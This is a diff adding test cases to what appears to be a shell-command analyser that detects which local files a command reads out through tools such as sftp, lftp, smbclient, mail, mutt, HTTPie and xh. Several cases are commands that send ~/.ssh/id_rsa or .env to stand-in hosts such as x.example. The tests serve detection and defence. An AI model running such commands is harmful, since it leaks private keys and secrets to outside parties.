@@ -109,6 +109,17 @@ def test_writes(command: str, writes: list[tuple[str, str]]) -> None:
         ("key=$(< .env)", [(".env", "cat")]),
         ("ls -la", []),
         ("echo ~/.ssh/id_rsa", []),
+        # file transfer clients' put commands, mail attachments, HTTPie's file items
+        ("sftp host <<< 'put ~/.ssh/id_rsa'", [("~/.ssh/id_rsa", "sftp")]),
+        ("lftp -e 'cd up; put .env; bye' ftp://host", [(".env", "lftp")]),
+        ("smbclient //host/share -c 'mput a b'", [("a", "smbclient"), ("b", "smbclient")]),
+        ("sftp host <<< 'get remote.txt'", []),
+        ("mail -A ~/.ssh/id_rsa -s hi a@x.example", [("~/.ssh/id_rsa", "mail")]),
+        ("mutt -a report.pdf -- a@x.example", [("report.pdf", "mutt")]),
+        ("http POST https://x.example @body.json", [("body.json", "http")]),
+        ("http -f POST https://x.example file@~/.ssh/id_rsa name=x", [("~/.ssh/id_rsa", "http")]),
+        ("xh https://x.example cfg:=@config.json", [("config.json", "xh")]),
+        ("http https://user@x.example/p q==1", []),
         # commands that print what they make of the files they read
         ("sed -n p ~/.ssh/id_rsa", [("~/.ssh/id_rsa", "sed")]),
         ("sed -e 's/a/b/' -f fix.sed a b", [("a", "sed"), ("b", "sed")]),
